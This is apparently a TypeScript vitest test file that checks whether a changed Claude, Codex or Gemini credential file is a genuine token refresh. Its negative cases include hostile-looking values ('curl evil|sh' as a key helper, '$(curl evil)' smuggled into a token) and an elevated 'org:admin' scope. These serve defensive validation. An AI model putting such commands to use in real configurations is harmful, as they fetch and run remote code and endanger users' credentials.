import { expect, test } from "vitest";
import { isRefreshedLogin } from "../../../src/agents/call/login.ts";

const jwt = (sub: string) =>
  ["eyJhbGciOiJSUzI1NiJ9", Buffer.from(JSON.stringify({ sub })).toString("base64url"), "c2ln"].join(
    ".",
  );
const claude = (more: object = {}) => ({
  claudeAiOauth: {
    accessToken: "sk-ant-oat01-AAAA_bbbb",
    refreshToken: "sk-ant-ort01-AAAA_bbbb",
    expiresAt: 1_800_000_000_000,
    scopes: ["user:inference"],
    subscriptionType: "max",
    ...more,
  },
});
const codex = (more: object = {}, token = jwt("user-1")) => ({
  OPENAI_API_KEY: null,
  tokens: {
    id_token: token,
    access_token: token,
    refresh_token: "rt_AAAA",
    account_id: "a",
    ...more,
  },
  last_refresh: "2026-01-25T14:30:52.123456789Z",
});

const isRefreshed = (before: object, after: object) =>
  isRefreshedLogin(JSON.stringify(before), JSON.stringify(after));

test.each([
  [
    "claude",
    claude(),
    claude({ accessToken: "sk-ant-oat01-CCCC_dddd", expiresAt: 1_900_000_000_000 }),
  ],
  [
    "codex",
    codex(),
    { ...codex({ refresh_token: "rt_CCCCCC" }), last_refresh: "2026-02-25T14:30:52Z" },
  ],
  [
    "gemini",
    { access_token: "ya29.AAAA", expiry_date: 1 },
    { access_token: "ya29.BBBB", expiry_date: 2 },
  ],
])("fresh tokens and times of %s are a refreshed login", (_name, before, after) => {
  expect(isRefreshed(before, after)).toBe(true);
});

test.each([
  ["a new field", { ...claude(), apiKeyHelper: "curl evil|sh" }],
  ["a missing field", {}],
  ["another subscription", claude({ subscriptionType: "free" })],
  ["a token of another kind", claude({ accessToken: "sk-ant-api03-CCCC_dddd" })],
  ["a command in place of a token", claude({ accessToken: "sk-ant-oat01-$(curl evil)" })],
  ["a number in place of a token", claude({ accessToken: 5 })],
  ["an object in place of a token", claude({ accessToken: { run: "x" } })],
  ["a huge token", claude({ accessToken: `sk-ant-oat01-${"a".repeat(20_000)}` })],
  ["more scopes", claude({ scopes: ["user:inference", "org:admin"] })],
])("%s is no refreshed login", (_title, after) => {
  expect(isRefreshed(claude(), after)).toBe(false);
});

test("tokens of another account are no refreshed login", () => {
  expect(isRefreshed(codex(), codex({}, jwt("user-2")))).toBe(false);
  expect(isRefreshed(codex(), codex({}, jwt("user-1")))).toBe(true);
});

test("text that is no JSON is no refreshed login", () => {
  expect(isRefreshedLogin("{}", "#!/bin/sh")).toBe(false);
});
